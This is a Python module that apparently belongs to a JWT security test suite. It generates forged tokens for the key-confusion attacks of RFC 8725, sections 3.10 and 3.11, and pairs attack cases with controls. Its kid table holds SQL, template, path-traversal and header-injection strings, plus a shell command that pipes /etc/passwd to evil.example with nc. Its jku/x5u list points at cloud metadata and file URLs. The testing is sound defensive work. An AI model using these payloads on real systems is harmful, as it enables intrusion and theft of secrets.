"""Attacks by keys that a token brings along or points at (RFC 8725, sections 3.10 and 3.11)."""

import base64
import hashlib
from typing import Any

from .case import attack, control, section
from .crafting import GONE, token
from .keys import EC, STRANGER, STRANGER_RSA, Signer, der, hmac_of, private, public, url64
from .world import EVIL, Attempt

KEY_IDS: dict[str, Any] = {
    "a path": "../../../../../../dev/null",
    "an absolute path": "/dev/null",
    "a file URL": "file:///dev/null",
    "SQL": "' OR '1'='1",
    "more SQL": "x' UNION SELECT 'secret' --",
    "a shell command": "ec; cat /etc/passwd | nc evil.example 80",
    "a template": "{{7*7}}${7*7}",
    "a URL": f"{EVIL}/jwks",
    "NUL": "ec\0",
    "NUL before another id": "evil\0ec",
    "a line break": "ec\r\nx-injected: 1",
    "a look-alike": "eс",
    "other case": "EC",
    "white space": " ec",
    "very much": "ec" * 2000,
    "nothing": "",
    "a number": 1,
    "a huge number": 10**300,
    "an object": {"kid": "ec"},
    "a list": ["ec"],
    "true": True,
    "null": None,
}

KNOWN_CONTENTS = {
    "/dev/null": b"",
    "/proc/sys/kernel/randomize_va_space": b"2\n",
    "x' UNION SELECT 'secret' --": b"secret",
    f"{EVIL}/jwks": b"{}",
}
"""What a careless lookup would give for such an id, which is then the secret."""

ODD_ADDRESSES: list[Any] = [None, 5, ["TRAP"], {"TRAP": 1}]


def offering(at: Attempt, by: Signer, **offers: Any) -> str:
    """A token that offers these keys; TRAP in an address is a server on this machine."""
    url = at.target.trap.url
    told = {name: value.replace("TRAP", url) if isinstance(value, str) else value for name, value in offers.items()}
    return token(at, told, by)


def chain() -> list[str]:
    return [base64.b64encode(der("stranger")).decode()]


def offering_chain(at: Attempt, **members: Any) -> str:
    digest = url64(hashlib.sha256(der("stranger")).digest())
    return token(at, {"x5c": chain(), "x5t#S256": digest, **members}, STRANGER)


def offering_itself(at: Attempt, by: Signer = STRANGER, with_private: bool = False, **members: Any) -> str:
    """The token brings its own key along."""
    return token(at, {"jwk": (private if with_private else public)(by), **members}, by)


def offering_set(at: Attempt) -> str:
    return token(at, {"jwks": {"keys": [public(STRANGER)]}, "keys": [public(STRANGER)]}, STRANGER)


def everything(at: Attempt) -> str:
    url = at.target.trap.url
    return offering_chain(at, jwk=public(STRANGER), jku=f"{url}/jwks", x5u=f"{url}/chain", kid=f"{url}/kid")


ADDRESSES = {
    "a stranger's": f"{EVIL}/jwks",
    "a stranger's that begins like the issuer's": "https://id.example.evil.example/jwks",
    "the issuer's as user info": "https://id.example@evil.example/jwks",
    "the issuer's, redirecting": "https://id.example/redirect?to=https://evil.example/jwks",
    "this machine": "TRAP/jwks",
    "this machine, by name": "http://localhost/jwks",
    "the cloud's metadata": "http://169.254.169.254/latest/meta-data",
    "a file": "file:///etc/passwd",
    "data": "data:application/json,{}",
}

CASES = [
    *section(
        "a key in the header",
        control("its own key, offered too", offering_itself, EC),
        attack("jwk of a stranger under our key's id", offering_itself),
        attack("jwk of a stranger under its own id", offering_itself, kid="evil"),
        attack("jwk of a stranger and no kid", offering_itself, kid=GONE),
        attack("jwk with the private part", offering_itself, with_private=True),
        attack("jwk that is an RSA key", offering_itself, STRANGER_RSA),
        attack("x5c", offering_chain),
        attack("x5c under another id", offering_chain, kid="evil"),
        attack("x5c without kid", offering_chain, kid=GONE),
        attack("all that offers a key at once", everything),
        attack("a symmetric jwk", token, {"jwk": {"kty": "oct", "k": "AA"}}, by=hmac_of("HS256", lambda: b"\0")),
        attack("a set of keys", offering_set),
    ),
    *section(
        "where a key is to be had",
        control("jku at a stranger's, on a genuine token", offering, EC, jku=f"{EVIL}/jwks", x5u=f"{EVIL}/chain"),
        control("jku at this machine, on a genuine token", offering, EC, jku="TRAP/jwks", x5u="TRAP/chain"),
        *(
            attack(f"{member} at {name}", offering, STRANGER, **{member: address})
            for member in ("jku", "x5u")
            for name, address in ADDRESSES.items()
        ),
        *(attack(f"jku that is {value!r}", offering, STRANGER, jku=value) for value in ODD_ADDRESSES),
        attack("jku with another kid", offering, STRANGER, jku="TRAP/jwks", kid="evil"),
        attack("an issuer on this machine", lambda at: token(at, None, STRANGER, iss=at.target.trap.url)),
        attack("a stranger as the issuer", token, by=STRANGER, iss=EVIL),
    ),
    *section(
        "key ids",
        control("the id of the key", token, {"kid": "ec"}),
        control("no id", token, {"kid": GONE}),
        *(attack(f"kid is {name}", token, {"kid": kid}, STRANGER) for name, kid in KEY_IDS.items()),
        *(
            attack(f"HMAC with what {kid} is to yield", token, by=hmac_of("HS256", secret.__bytes__, kid))
            for kid, secret in KNOWN_CONTENTS.items()
        ),
        attack("the id of another key", token, {"kid": "ec384"}),
        attack("the id of a key of another kind", token, {"kid": "rsa"}),
        attack("an id that nobody has, for a genuine signature", token, {"kid": "unknown"}),
        attack("no id, and a stranger's signature", token, {"kid": GONE}, STRANGER),
    ),
]
